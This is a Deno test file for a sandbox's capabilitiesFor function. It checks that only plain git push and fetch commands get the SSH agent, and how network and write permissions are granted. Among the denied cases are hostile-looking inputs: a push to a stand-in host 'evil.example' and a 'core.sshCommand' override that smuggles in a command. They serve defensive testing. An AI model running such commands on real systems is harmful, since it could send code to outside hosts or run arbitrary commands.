import { assertEquals } from "@std/assert";
import { capabilitiesFor } from "../../../../src/gate/sandbox/capabilities.ts";

const NEEDS = { net: false, agent: false, write: [] };

const AGENT: readonly (readonly [string, boolean])[] = [
  ["git push", true],
  ["git push origin main", true],
  ["git fetch --all", true],
  ["git fetch origin && git pull", true],
  ["cd sub && git pull", false],
  ["git status && git push", false],
  ["git submodule update && git pull", false],
  ["git fetch --recurse-submodules origin", false],
  ["git push git@evil.example:x.git main", false],
  ["git push ../other", false],
  ["git -c core.sshCommand=x push", false],
  ["git push && make deploy", false],
  ["git status", false],
  ["ssh host", false],
];

for (const [script, agent] of AGENT) {
  Deno.test(`capabilitiesFor ${agent ? "gives" : "keeps"} the agent for: ${script}`, () => {
    const commands = script.split(" && ").map((one) => one.split(" "));
    assertEquals(
      capabilitiesFor({ commands, capabilities: NEEDS }).agent,
      agent,
    );
  });
}

Deno.test("capabilitiesFor gives the network where any host is needed, and paths as judged", () => {
  const given = (net: boolean | readonly string[]) =>
    capabilitiesFor({
      commands: [],
      capabilities: { net, agent: true, write: ["/data"] },
    });
  assertEquals([true, false, ["x.org"], []].map((net) => given(net).net), [
    true,
    false,
    true,
    false,
  ]);
  assertEquals([given(true).agent, given(true).write], [false, ["/data"]]);
});
